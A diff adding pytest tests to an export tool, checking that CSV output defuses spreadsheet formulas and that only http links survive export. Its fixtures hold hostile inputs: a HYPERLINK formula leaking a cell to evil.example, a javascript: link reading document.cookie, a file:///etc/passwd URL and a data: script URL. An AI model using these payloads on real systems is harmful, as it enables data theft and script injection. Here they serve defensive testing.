@@ -296,3 +296,62 @@ def test_md_escape():
     assert md_escape("*a* _b_ [c](d) <e> `f` # g & h") == \
         "\\*a\\* \\_b\\_ \\[c\\](d) \\<e\\> \\`f\\` \\# g \\& h"
     assert md_escape("- item\n1986. A year\n+ x\n=== y") == "\\- item\n1986\\. A year\n\\+ x\n\\=== y"
+
+
+# --- what a spreadsheet or a browser would act on ---------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tcmd", "\rcmd"]
+
+
+@pytest.fixture
+def formula_db(db_path):
+    items = [{"id": n, "kind": "tip", "text": text, "episode_id": 1, "speaker": "=Evil Speaker", "start": 10.0 * n,
+              "end": 10.0 * n + 5, "topics": ["customers"], "score": 0.9, "status": "approved"}
+             for n, text in enumerate(FORMULAS, 1)]
+    return make_db(db_path, items=items)
+
+
+def csv_cells(text):
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(formula_db, db_path):
+    guarded = ["'" + f for f in FORMULAS]
+    rows = csv_cells(export_text(formula_db, "csv"))
+    assert [r[rows[0].index("text")] for r in rows[1:]] == guarded
+    assert {r[rows[0].index("speaker")] for r in rows[1:]} == {"'=Evil Speaker"}
+    assert rows[1][rows[0].index("score")] == "0.9" and rows[1][rows[0].index("start")] == "10.0"
+    assert [r[0] for r in csv_cells(export_text(formula_db, "readwise"))[1:]] == guarded
+    search = csv_cells(run(db_path, "search", "--csv").output)
+    assert sorted(r[search[0].index("text")] for r in search[1:]) == sorted(guarded)
+    query = run(db_path, "query", "select text, speaker, score from items order by id", "--csv").output
+    assert csv_cells(query)[1:] == [[g, "'=Evil Speaker", "0.9"] for g in guarded]
+    # json keeps the data as it is: nothing runs it
+    assert [r["text"] for r in json.loads(export_text(formula_db, "json"))] == FORMULAS
+
+
+def test_raw_csv_writes_cells_as_stored(formula_db, db_path, tmp_path):
+    rows = csv_cells(export_text(formula_db, "csv", raw_csv=True))
+    assert [r[rows[0].index("text")] for r in rows[1:]] == FORMULAS
+    out = tmp_path / "raw.csv"
+    assert run(db_path, "export", "-o", str(out), "--raw-csv").exit_code == 0
+    assert [r[3] for r in csv_cells(open(out, newline="").read())[1:]] == FORMULAS
+    query = run(db_path, "query", "select text from items order by id", "--raw-csv").output
+    assert [r[0] for r in csv_cells(query)[1:]] == FORMULAS
+    search = csv_cells(run(db_path, "search", "--raw-csv").output)
+    assert sorted(r[search[0].index("text")] for r in search[1:]) == sorted(FORMULAS)
+
+
+def test_only_http_links_are_exported_in_every_format(fixture_db, db_path):
+    fixture_db["episodes"].update(1, {"link": "javascript:alert(document.cookie)",
+                                      "enclosure_url": "file:///etc/passwd"})
+    fixture_db["episodes"].update(2, {"link": "data:text/html,<script>alert(1)</script>",
+                                      "enclosure_url": "https://cdn.example.com/ep2.mp3"})
+    for fmt in ("csv", "json", "jsonl", "md", "html", "readwise"):
+        text = export_text(fixture_db, fmt)
+        for bad in ("javascript:", "file:", "data:"):
+            assert bad not in text, (fmt, bad)
+    rows = {r["episode_id"]: r for r in json.loads(export_text(fixture_db, "json"))}
+    assert (rows[1]["episode_link"], rows[1]["enclosure_url"], rows[1]["url"]) == (None, None, None)
+    assert (rows[2]["episode_link"], rows[2]["enclosure_url"]) == (None, "https://cdn.example.com/ep2.mp3")
